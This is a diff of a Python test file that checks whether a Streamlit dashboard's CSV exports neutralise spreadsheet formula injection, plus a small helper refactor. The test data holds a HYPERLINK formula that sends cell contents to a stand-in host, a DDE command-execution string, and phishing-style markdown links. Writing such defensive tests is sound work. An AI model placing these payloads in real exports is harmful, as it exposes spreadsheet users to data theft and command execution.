@@ -14,24 +14,10 @@ from streamlit.testing.v1 import AppTest
 
 from dashboards.components.text import md
 from tests.conftest import REPO, WORLD_END
-from tests.dashboards.conftest import doctored, open_app, switch_page
+from tests.dashboards.conftest import doctored, drawn_downloads, open_app, switch_page
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
 LINK, IMAGE = "[重新登录](https:evil.example)", "![t](https:evil.example)"
-
-
-def _downloads(monkeypatch) -> dict:
-    """Every st.download_button drawn from now on: its key → its arguments."""
-    import streamlit as st
-
-    drawn, original = {}, st.download_button
-
-    def capture(label, data, **kwargs):
-        drawn[kwargs.get("key")] = {"data": data, **kwargs}
-        return original(label, data, **kwargs)
-
-    monkeypatch.setattr(st, "download_button", capture)
-    return drawn
 
 
 def _export_script():
@@ -46,7 +32,7 @@ def _export_script():
 
 def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path, monkeypatch):
     monkeypatch.setenv("GRIDSIGHT_DATA_DIR", str(tmp_path))
-    downloads = _downloads(monkeypatch)
+    downloads = drawn_downloads(monkeypatch)
     app = AppTest.from_function(_export_script, default_timeout=30).run()
     assert not app.exception, app.exception
     csv = pd.read_csv(io.BytesIO(downloads["t"]["data"]), encoding="utf-8-sig", keep_default_na=False)
@@ -78,13 +64,13 @@ def test_hostile_area_names_leave_the_population_export_as_text(world, tmp_path,
     grids = marts.execute("select * from marts.mart_population_by_grid").df()
     grids.loc[0, "name_zh"], grids.loc[1, "name_zh"] = HOSTILE, "@cmd|' /C calc'!A0"
     data_dir = doctored(world, tmp_path, mart_population_by_grid=grids)
-    downloads = _downloads(monkeypatch)
+    downloads = drawn_downloads(monkeypatch)
     switch_page(open_app(monkeypatch, data_dir, user="leader"), "population")
     csv = pd.read_csv(io.BytesIO(downloads["export_population"]["data"]), encoding="utf-8-sig")
     names = csv.set_index("grid_id")["name_zh"]
     assert names[grids.loc[0, "grid_id"]] == "'" + HOSTILE
     assert names[grids.loc[1, "grid_id"]] == "'@cmd|' /C calc'!A0"
-    assert csv["residents"].tolist() == grids["residents"].tolist()   # numbers stay numbers
+    assert csv.set_index("grid_id")["residents"].to_dict() == grids.set_index("grid_id")["residents"].to_dict()
     assert pd.api.types.is_integer_dtype(csv["residents"])
 
 
